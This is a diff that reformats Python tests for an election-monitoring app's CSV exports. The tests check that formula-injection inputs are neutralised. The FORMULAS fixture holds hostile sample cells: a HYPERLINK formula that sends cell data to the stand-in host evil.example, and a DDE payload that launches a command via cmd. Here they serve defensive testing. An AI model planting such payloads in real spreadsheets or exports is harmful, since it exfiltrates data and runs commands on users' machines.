@@ -35,8 +35,14 @@ from storage.db import make_engine, migrate
 
 ROOT = Path(__file__).resolve().parents[1]
 HELPER = "pantau/domain/csvsafe.py"
-FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+62 812 0000", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)", "\tTPS 3", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
+    "+62 812 0000",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\tTPS 3",
+    "\r=1+1",
+]
 T0 = datetime(2024, 11, 25, 3, tzinfo=UTC)
 
 
@@ -62,7 +68,8 @@ def test_safe_cell_neutralises_every_formula_start():
     writer = SafeWriter(buffer)
     writer.writerow(["a", FORMULAS[0]])
     assert buffer.getvalue().startswith(BOM) and _scan(buffer.getvalue().encode(), "buffer")[0][1] == (
-        "'" + FORMULAS[0])
+        "'" + FORMULAS[0]
+    )
 
 
 def _csv_writers(path: Path) -> list[str]:
@@ -70,8 +77,12 @@ def _csv_writers(path: Path) -> list[str]:
     tree = ast.parse(path.read_text(encoding="utf-8"))
     found = []
     for node in ast.walk(tree):
-        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and \
-                isinstance(node.value, ast.Name) and node.value.id == "csv":
+        if (
+            isinstance(node, ast.Attribute)
+            and node.attr in ("writer", "DictWriter")
+            and isinstance(node.value, ast.Name)
+            and node.value.id == "csv"
+        ):
             found.append(f"csv.{node.attr}")
         elif isinstance(node, ast.ImportFrom) and node.module == "csv":
             found += [f"from csv import {a.name}" for a in node.names if a.name in ("writer", "DictWriter")]
@@ -96,18 +107,38 @@ def hostile_db(tmp_path):
     url = f"sqlite:///{tmp_path / 'csv.db'}"
     with Session(engine_for(url)) as session, session.begin():
         ids = repo.sync_sources(session, [SourceConfig(name="social", kind="social_export", location="x")])
-        posts = repo.upsert_items(session, ids["social"], None, [
-            CollectedItem(source="social", title=FORMULAS[0], text="x", published_at=T0,
-                          url="https://social.example/1"),
-            CollectedItem(source="social", text="Klarifikasi", published_at=T0, url="https://social.example/2"),
-        ]).ids
-        repo.set_tags(session, [{"id": posts[0], "stage": "quiet_period",
-                                 "districts": ["-Omben", "@Torjun"]}])
+        posts = repo.upsert_items(
+            session,
+            ids["social"],
+            None,
+            [
+                CollectedItem(
+                    source="social",
+                    title=FORMULAS[0],
+                    text="x",
+                    published_at=T0,
+                    url="https://social.example/1",
+                ),
+                CollectedItem(
+                    source="social", text="Klarifikasi", published_at=T0, url="https://social.example/2"
+                ),
+            ],
+        ).ids
+        repo.set_tags(
+            session, [{"id": posts[0], "stage": "quiet_period", "districts": ["-Omben", "@Torjun"]}]
+        )
         claim = store.create_claim(session, FORMULAS[0])
         store.assign_items(session, claim, posts[:1])
-        store.link_counter_narrative(session, claim_id=claim, item_id=posts[1], actor=FORMULAS[3],
-                                     actor_category="other", published_at=T0, confidence=0.9,
-                                     attribution="mentioned")
+        store.link_counter_narrative(
+            session,
+            claim_id=claim,
+            item_id=posts[1],
+            actor=FORMULAS[3],
+            actor_category="other",
+            published_at=T0,
+            confidence=0.9,
+            attribution="mentioned",
+        )
         store.refresh_claim_spread(session, [claim])
     yield url
     reset()
@@ -131,21 +162,40 @@ def test_web_alerts_csv_has_a_bom_and_no_formula_cells(tmp_path):
     migrate(engine)
     with Session(engine) as session, session.begin():
         src = repo.sync_sources(session, [SourceConfig(name="evil", kind="rss", location="x")])
-        stored = repo.upsert_items(session, src["evil"], None, [CollectedItem(
-            source="evil", title=f, text=f, url=f"https://x.example/{i}", published_at=T0)
-            for i, f in enumerate(FORMULAS)], now=T0).ids
+        stored = repo.upsert_items(
+            session,
+            src["evil"],
+            None,
+            [
+                CollectedItem(source="evil", title=f, text=f, url=f"https://x.example/{i}", published_at=T0)
+                for i, f in enumerate(FORMULAS)
+            ],
+            now=T0,
+        ).ids
         for item_id, formula in zip(stored, FORMULAS, strict=True):
-            repo.set_item_tags(session, item_id, lang="ind", stage="campaign", districts=["+Omben"],
-                               actors=["@Polres"])
-            repo.raise_alert(session, kind="flagged_item", severity="high", signal="hoax", item_id=item_id,
-                             district="-Omben", reason=formula, dedupe_key=f"f:{item_id}", now=T0)
+            repo.set_item_tags(
+                session, item_id, lang="ind", stage="campaign", districts=["+Omben"], actors=["@Polres"]
+            )
+            repo.raise_alert(
+                session,
+                kind="flagged_item",
+                severity="high",
+                signal="hoax",
+                item_id=item_id,
+                district="-Omben",
+                reason=formula,
+                dedupe_key=f"f:{item_id}",
+                now=T0,
+            )
         org = accounts.ensure_organisation(session, "Bawaslu Sampang", "bawaslu")
         accounts.create_user(session, "analis", hash_password("kata-sandi-uji-123"), "analyst", org)
     app = create_app(engine, secret_key="s" * 40)
     with TestClient(app) as client:
         token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").text).group(1)
-        client.post("/login", data={"username": "analis", "password": "kata-sandi-uji-123",
-                                    "csrf_token": token, "next": "/"})
+        client.post(
+            "/login",
+            data={"username": "analis", "password": "kata-sandi-uji-123", "csrf_token": token, "next": "/"},
+        )
         response = client.get("/alerts.csv")
     assert response.status_code == 200
     rows = _scan(response.content, "alerts.csv")
